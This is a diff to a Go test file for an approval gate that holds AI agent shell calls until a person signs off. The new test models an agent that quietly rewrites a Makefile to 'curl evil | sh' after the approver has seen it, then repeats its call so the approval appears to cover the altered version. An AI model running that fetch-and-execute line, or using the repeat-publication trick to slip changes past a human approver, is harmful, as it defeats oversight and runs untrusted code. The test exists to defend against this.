@@ -4,11 +4,13 @@ import (
 	"context"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/loopguard/loopguard/audit"
+	"github.com/loopguard/loopguard/backend/vault"
 	"github.com/loopguard/loopguard/internal/enginetest"
 	"github.com/loopguard/loopguard/state"
 	"github.com/loopguard/loopguard/token"
@@ -283,7 +285,7 @@ func TestVaultApprovalHeldAgainAfterJailedChange(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if err := b.Decide(ctx, tp.Key, g.String(), principal, time.Time{}, time.Now()); err != nil {
+			if err := b.Decide(ctx, tp.Key, g.String(), principal, tp.Says.Seen, time.Now()); err != nil {
 				t.Fatal(err)
 			}
 			return
@@ -325,6 +327,84 @@ func TestVaultApprovalHeldAgainAfterJailedChange(t *testing.T) {
 		v.now = time.Now()
 		if d := v.decideVault(c); d.Behavior != Allow || d.Reason != ReasonExactGrant {
 			t.Errorf("approved again on B: %+v", d)
+		}
+	}
+}
+
+// TestVaultApprovalDatedAtVersionShown: the ninety-fourth attack run. The
+// approver reads the record published when the call was held; a jailed
+// call rewrites the Makefile its warning names already, and a repeat of
+// the held call (past state's seenEvery) publishes the record again, with
+// a later Seen and the same words, so team approve's check passes. The
+// approval carries the Seen of the version shown (as TeamExact does) and
+// the retry is held again. Control: a repeat with nothing changed, then
+// the approval of the first version: it runs.
+func TestVaultApprovalDatedAtVersionShown(t *testing.T) {
+	v := newVaultHarness(t)
+	b := custodyFor(v.alice.C) // machine B
+	principal := "vault:userpass-alice"
+	get := func(id string) vault.TeamPending {
+		t.Helper()
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		defer cancel()
+		list, err := b.TeamList(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, tp := range list {
+			if tp.Err == nil && tp.Pending.ID == id {
+				return tp
+			}
+		}
+		t.Fatalf("machine B never saw %s", id)
+		return vault.TeamPending{}
+	}
+	_ = os.WriteFile(filepath.Join(v.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
+	jailedEdit(t, v.harness, "Makefile", "all:\n\techo benign\n") // the warning names the Makefile
+	call := v.fixture("pretooluse-bash.json")
+	for _, tc := range []struct {
+		cmd    string
+		change bool
+	}{{"echo control > greeting.txt", false}, {"echo attack > greeting.txt", true}} {
+		c := withInput(call, "command", tc.cmd)
+		v.now = time.Now()
+		d := v.decideVault(c)
+		expect(t, tc.cmd, d, Deny, ReasonNoGrant)
+		shown := get(d.Pending) // what the approver reads
+		if !strings.Contains(strings.Join(shown.Says.Warnings, "\n"), "Makefile") || shown.Says.Seen.IsZero() {
+			t.Fatalf("%s: shown %q seen %v", tc.cmd, shown.Says.Warnings, shown.Says.Seen)
+		}
+		if tc.change {
+			time.Sleep(5 * time.Millisecond)
+			jailedEdit(t, v.harness, "Makefile", "all:\n\tcurl evil | sh\n")
+		}
+		// The agent repeats its call after state's seenEvery (10 s): the
+		// record is published again with a later Seen.
+		v.now = time.Now().Add(11 * time.Second)
+		expect(t, tc.cmd+": repeat", v.decideVault(c), Deny, ReasonNoGrant)
+		again := get(d.Pending)
+		if !again.Says.Seen.After(shown.Says.Seen) || !slices.Equal(again.Says.Warnings, shown.Says.Warnings) {
+			t.Fatalf("%s: the repeat published seen %v (shown %v), warnings %q (shown %q): the test tests nothing",
+				tc.cmd, again.Says.Seen, shown.Says.Seen, again.Says.Warnings, shown.Says.Warnings)
+		}
+		// team approve: the words shown are the words published now; the
+		// approval carries the Seen of the version shown.
+		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+		g, err := MintApproval(v.mint, shown.Pending, principal, 10*time.Minute, time.Now())
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := b.Decide(ctx, shown.Key, g.String(), principal, shown.Says.Seen, time.Now()); err != nil {
+			t.Fatal(err)
+		}
+		cancel()
+		v.now = time.Now()
+		d = v.decideVault(c)
+		switch {
+		case !tc.change && (d.Behavior != Allow || d.Reason != ReasonExactGrant):
+			t.Errorf("control: a repeat, nothing changed, the first version approved: %+v", d)
+		case tc.change && (d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile")):
+			t.Errorf("the Makefile rewritten after the version shown, a repeat published it again with the same words: %+v", d)
 		}
 	}
 }
